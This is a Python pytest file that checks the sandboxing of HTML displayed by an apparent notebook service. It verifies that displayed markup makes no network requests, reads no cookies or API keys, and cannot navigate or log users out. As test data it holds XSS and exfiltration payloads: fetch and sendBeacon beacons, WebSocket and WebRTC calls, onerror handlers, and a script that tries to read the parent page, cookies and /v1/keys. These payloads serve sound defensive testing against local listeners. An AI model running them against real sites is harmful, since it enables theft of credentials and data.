"""HTML that a program displayed, attacking whoever looks at it: the page around it, the cookie, the API, the window, the network.

Each way out is first shown to lead somewhere, from a page without our frame.
"""

from __future__ import annotations

import contextlib
import socket
import threading
from collections.abc import Callable, Iterator

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.testing.served import Served

# With {tcp} and {udp} for an address of somebody else's.
BY_MARKUP = {
    "a picture": '<img src="{tcp}/"><img srcset="{tcp}/ 2x"><input type="image" src="{tcp}/">',
    "a style": "<style>@import '{tcp}/a'; b {{ background: url({tcp}/b) }}</style><b>x</b><div style='background: url({tcp}/c)'>x</div>",
    "a link": '<link rel="stylesheet" href="{tcp}/">',
    "a refresh": '<meta http-equiv="refresh" content="0; url={tcp}/">',
    "a frame": '<iframe src="{tcp}/"></iframe>',
    "an object": '<object data="{tcp}/"></object><embed src="{tcp}/">',
    "a video": '<video src="{tcp}/" poster="{tcp}/p" autoplay></video>',
}  # fmt: skip
BY_SCRIPT = {
    "a script's request": "<script>fetch('{tcp}/'); new Image().src = '{tcp}/'; navigator.sendBeacon('{tcp}/')</script>",
    "a web socket": "<script>new WebSocket('{tcp}/'.replace('http', 'ws'))</script>",
    "a script elsewhere": "<script src='{tcp}/'></script>",
    "a page elsewhere": "<script>location = '{tcp}/?all'</script>",
    "a link that clicks itself": "<a id='a' href='{tcp}/' ping='{tcp}/p'>x</a><script>document.getElementById('a').click()</script>",
    "WebRTC": "<script>const c = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{udp}'}}]}}); c.createDataChannel('x');"
              " c.createOffer().then((o) => c.setLocalDescription(o))</script>",
}  # fmt: skip
# What a script that runs can say of what it sees around it.
SPY = """<p id=seen></p><script>
const seen = [];
const attempt = (name, what) => { try { const got = what(); if (got) seen.push(`${name}: ${got}`); } catch (error) { } };
attempt('page', () => parent.document.body.innerHTML);
attempt('top', () => top.location.href);
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage);
attempt('origin', () => origin === 'null' ? '' : origin);
attempt('popup', () => open('/keys'));
attempt('sibling', () => parent.frames[1].document);
attempt('away', () => { top.location = '/healthz'; });
attempt('form', () => { document.body.insertAdjacentHTML('beforeend', '<form id=f method=post action=/logout target=_top></form>'); f.submit(); });
Promise.allSettled([fetch('/v1/keys', {headers: {'x-fumehood-dashboard': '1'}}).then((a) => a.text()), fetch('/', {credentials: 'include'}).then((a) => a.text())])
  .then((all) => { for (const each of all) if (each.value) seen.push(each.value); document.getElementById('seen').textContent = 'seen: ' + seen.join(); });
</script>"""


class Elsewhere:
    """Somebody else's address, by TCP and by UDP; `come` is set when anything arrives."""

    def __init__(self) -> None:
        self.come = threading.Event()
        self._sockets = [socket.socket(socket.AF_INET, kind) for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM)]
        for each in self._sockets:
            each.bind(("127.0.0.1", 0))
        self._sockets[0].listen()
        waits: tuple[Callable[[], object], ...] = (self._accept, lambda: self._sockets[1].recv(2000))
        self._threads = [threading.Thread(target=self._wait, args=(wait,)) for wait in waits]
        for thread in self._threads:
            thread.start()

    def lead(self, html: str) -> str:
        tcp, udp = (f"127.0.0.1:{each.getsockname()[1]}" for each in self._sockets)
        return html.format(tcp=f"http://{tcp}", udp=udp)

    def _accept(self) -> None:
        self._sockets[0].accept()[0].close()

    def _wait(self, wait: Callable[[], object]) -> None:
        try:
            while True:
                wait()
                self.come.set()
        except OSError:
            return  # closed

    def close(self) -> None:
        for each in self._sockets:
            each.shutdown(socket.SHUT_RDWR) if each.type == socket.SOCK_STREAM else self._wake(each)
            each.close()
        for thread in self._threads:
            thread.join()

    def _wake(self, receiver: socket.socket) -> None:
        """A close alone leaves a receiver waiting."""
        try:
            receiver.shutdown(socket.SHUT_RDWR)
        except OSError:
            return


@pytest.fixture
def elsewhere() -> Iterator[dict[str, Elsewhere]]:
    """An address for each attack."""
    elsewhere = {name: Elsewhere() for name in (*BY_MARKUP, *BY_SCRIPT)}
    yield elsewhere
    for each in elsewhere.values():
        each.close()


@pytest.fixture(scope="module")
def session(api: httpx.Client) -> str:
    return str(api.post("/v1/sessions", json={}).json()["id"])


@pytest.fixture
def show(api: httpx.Client, visit: BrowserContext, session: str) -> Iterator[Callable[..., Page]]:
    """Have a program display these, and look at them."""
    page = visit.new_page()
    page.set_default_timeout(15_000)

    def show(*htmls: str) -> Page:
        code = "class Shown(str):\n    def _repr_html_(self): return str(self)\n"
        code += "\n".join(f"display(Shown({html!r}))" for html in htmls)
        cell = api.post(f"/v1/sessions/{session}/cells", json={"code": code}).json()
        page.goto(f"/executions/{cell['id']}")
        return page

    yield show
    page.close()


def test_displayed_html_asks_for_nothing_from_anywhere(
    show: Callable[..., Page], elsewhere: dict[str, Elsewhere], browser: Browser, served: Served
) -> None:
    attacks = {name: elsewhere[name].lead(html) for name, html in (BY_MARKUP | BY_SCRIPT).items()}
    page = show(*(f"{html}<u>shown</u>" for html in attacks.values()))
    for number in range(len(attacks)):
        expect(page.frame_locator("iframe").nth(number).locator("u")).to_have_text("shown")
    page.wait_for_timeout(500)  # for what must not come there is nothing to wait for
    assert [name for name, each in elsewhere.items() if each.come.is_set()] == []
    for name, html in attacks.items():
        # A page for each: what one of them leads to may come in the way of the next.
        with contextlib.closing(browser.new_page()) as control:
            control.goto(f"{served.url}/healthz")
            control.set_content(html, wait_until="commit")
            assert elsewhere[name].come.wait(10), f"{name} leads nowhere at all, so the test shows nothing"


def test_scripts_that_a_person_let_run_reach_no_network(
    show: Callable[..., Page], elsewhere: dict[str, Elsewhere]
) -> None:
    ran = "<u>shown</u><script>document.querySelector('u').textContent = 'ran'</script>"
    page = show(ran, *(ran + elsewhere[name].lead(html) for name, html in BY_SCRIPT.items()))
    for _each in range(1 + len(BY_SCRIPT)):
        page.get_by_role("button", name="Run them").first.click()
    expect(page.frame_locator("iframe").first.locator("u")).to_have_text("ran")
    page.wait_for_timeout(800)
    assert [name for name, each in elsewhere.items() if each.come.is_set()] == []
    expect(page.locator("h1")).to_contain_text("Cell in python")


def test_no_script_runs_before_a_person_lets_it(show: Callable[..., Page]) -> None:
    page = show(
        "<u>still</u><img src=x onerror=\"document.querySelector('u').textContent = 'ran'\"><svg onload=\"document.querySelector('u').textContent = 'ran'\"></svg>"
        "<script>document.querySelector('u').textContent = 'ran'</script><a href=\"javascript:document.querySelector('u').textContent='ran'\">click</a>"
    )
    frame = page.frame_locator("iframe")
    expect(frame.locator("u")).to_have_text("still")
    frame.locator("a").click()
    assert frame.locator("script").count() == 0
    expect(frame.locator("u")).to_have_text("still")
    page.get_by_role("button", name="Run them").click()
    expect(frame.locator("u")).to_have_text("ran")  # so the attack works, where it is let


def test_a_script_that_runs_sees_neither_page_nor_cookie_nor_api_and_leads_nobody_away(
    show: Callable[..., Page], served: Served
) -> None:
    page = show(SPY)
    page.get_by_role("button", name="Run them").click()
    expect(page.frame_locator("iframe").locator("#seen")).to_have_text("seen: ")
    assert "/executions/" in page.url
    assert len(page.context.pages) == 1
    page.goto("/keys")  # nobody was logged out
    expect(page.locator("h1")).to_have_text("Keys")


def test_a_frame_that_says_it_is_endless_stays_within_bounds(show: Callable[..., Page]) -> None:
    page = show(
        "<script>setInterval(() => parent.postMessage({height: 1e9}, '*'), 50); parent.postMessage({height: '<b>'}, '*'); parent.postMessage(null, '*')</script>"
    )
    page.get_by_role("button", name="Run them").click()
    expect(page.locator("iframe")).to_have_attribute("height", "4000")


def test_what_could_lead_elsewhere_is_taken_out_of_displayed_html(show: Callable[..., Page]) -> None:
    page = show(
        "<form action=/logout method=post target=_top><button>Log out</button></form><link rel=preconnect href=http://127.0.0.1:1>"
        "<meta http-equiv=refresh content='0; url=/'><base href=http://127.0.0.1:1><a href=http://127.0.0.1:1 ping=/x>shown</a>"
        "<svg><a xlink:href=http://127.0.0.1:1><set attributeName=href to=/ /></a></svg><a href=#here>kept</a>"
    )
    frame = page.frame_locator("iframe")
    expect(frame.get_by_text("shown")).to_be_visible()
    assert frame.locator("form, link, meta:not(head *), base, set, [ping], [xlink\\:href]").count() == 0
    assert frame.locator("[href]").all_inner_texts() == ["kept"]


@pytest.mark.parametrize("path", ["/frame", "/frame/scripts"])
def test_the_frames_document_has_no_origin_even_where_it_is_opened_by_itself(visit: BrowserContext, path: str) -> None:
    page = visit.new_page()
    page.goto(path)
    assert page.evaluate("origin") == "null"
    page.close()
